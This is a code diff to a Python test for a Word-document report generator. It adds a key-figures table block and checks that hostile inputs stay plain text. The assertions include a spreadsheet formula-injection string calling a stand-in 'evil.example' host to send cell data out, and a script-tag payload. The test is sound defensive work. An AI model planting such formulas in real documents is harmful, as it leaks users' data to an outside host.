@@ -16,7 +16,19 @@ from support.servers.databases import SQLiteDatabases
 from reports.errors import InvalidStatement
 from reports.formats.docx import file
 from reports.formats.docx.elements import W
-from reports.model import Chart, Layout, Paragraph, Report, Section, Terms, Tone, Word, Words
+from reports.model import (
+    Chart,
+    KeyFigure,
+    KeyFigures,
+    Layout,
+    Paragraph,
+    Report,
+    Section,
+    Terms,
+    Tone,
+    Word,
+    Words,
+)
 from reports.words.language import LANGUAGES, Language
 
 KZ = ("TikTok", "Kazakhstan")
@@ -44,6 +56,7 @@ def made_by_hand(said: Language) -> Report:
     blocks = (
         Paragraph(("A day has passed.",), Tone.PASSED),
         Words((late,)),
+        KeyFigures((KeyFigure(("3 of 5",), "duties met"), KeyFigure(("2",), "late", Tone.WARN))),
         Terms(((("a term",), ("its meaning",)),)),
         Chart("life", "A life", "It began, and ended.", drawn),
         facts(said),
@@ -69,6 +82,8 @@ def test_every_block_has_its_place_and_hostile_texts_stay_texts(
     assert {"Title", "Heading 1", "Heading 2", "Heading 3"} <= set(styles)
     text = "\n".join(one.text for one in document.paragraphs)
     assert "A day has passed." in text
+    cells = [cell.text for row in document.tables[0].rows for cell in row.cells]
+    assert cells == ["3 of 5\nduties met", "2\nlate"]
     assert '=HYPERLINK("http://evil.example/?"&A1,"open")' in text
     assert "<script>alert(1)</script>" in text
     assert len(document.inline_shapes) == 1
